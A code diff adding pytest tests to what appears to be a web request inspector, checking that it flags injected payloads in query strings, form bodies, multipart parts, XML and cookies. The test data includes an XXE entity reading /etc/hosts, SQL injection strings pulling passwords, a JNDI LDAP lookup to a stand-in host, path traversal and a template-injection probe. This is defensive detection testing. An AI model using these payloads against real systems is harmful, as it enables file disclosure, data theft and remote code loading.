@@ -45,6 +45,9 @@ CONTRACT = {
                                 },
                             }
                         },
+                        "application/x-www-form-urlencoded": {
+                            "schema": {"type": "object", "properties": {"kind": {"type": "string", "enum": [SQL, "a"]}}}
+                        },
                         "application/xml": {"schema": {"type": "object"}},
                     }
                 },
@@ -104,6 +107,29 @@ def test_xml_is_read_though_no_schema_describes_it() -> None:
     entity = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>'
     assert [found for found, _ in reasons(decided("POST /notes", entity, "application/xml"))] == ["payload-xml"]
     assert reasons(decided("POST /notes", b"<a><b>text</b></a>", "application/xml")) == []
+    hidden = [found for found, _ in reasons(decided("POST /notes", entity + b" ", "application/xml; charset=utf-16le"))]
+    assert hidden == ["payload-xml"]
+
+
+FORM = "application/x-www-form-urlencoded"
+
+
+def test_of_what_is_given_again_nothing_is_pinned_down() -> None:
+    again = quote("' union select password from users --")
+    assert reasons(decided(f"GET /notes?code=a&code={again}")) == [("payload-sql", "query.code")]
+    assert reasons(decided("POST /notes", f"kind=a&kind={again}".encode(), FORM)) == [("payload-sql", "body/kind")]
+
+
+def test_no_number_of_parts_hides_what_stands_behind_them() -> None:
+    many = b"a=1&" * 1000
+    assert [found for found, _ in reasons(decided("POST /notes", many + b"b=1'+or+'1'='1", FORM))] == ["payload-sql"]
+
+
+@pytest.mark.parametrize(("name", "found"), [("", ["payload-sql"]), ('; filename="a.jpg"', [])])
+def test_no_byte_makes_an_opaque_file_of_a_part_that_is_none(name: str, found: list[str]) -> None:
+    part = f'--b\r\nContent-Disposition: form-data; name="q"{name}\r\n\r\n{SQL}'.encode() + b"\xff\r\n--b--\r\n"
+    event = decided("POST /notes", part, "multipart/form-data; boundary=b")
+    assert [each for each, _ in reasons(event)] == found
 
 
 @pytest.mark.parametrize(
@@ -345,3 +371,9 @@ def test_a_field_with_a_grammar_of_its_own_is_read_where_it_says_what_that_has_n
     accept, media_type = "../../srv/list{{", "%{7*7}.multipart/form-data"
     found = head_texts({"accept": accept, "content-type": media_type})
     assert found == [("header.accept", accept), ("header.content-type", media_type)]
+
+
+@pytest.mark.parametrize("pair", ["${jndi:ldap://a.example/b}", "${jndi:ldap://a.example/b}=1", "' or '1'='1"])
+def test_names_of_cookies_are_read_where_they_say_more_than_a_name_does(pair: str) -> None:
+    assert head_texts({"cookie": f"a=b; __Host-c=d; {pair}"})[-1] == ("cookie", pair)
+    assert ("cookie", "__Host-c=d") not in head_texts({"cookie": f"a=b; __Host-c=d; {pair}"})
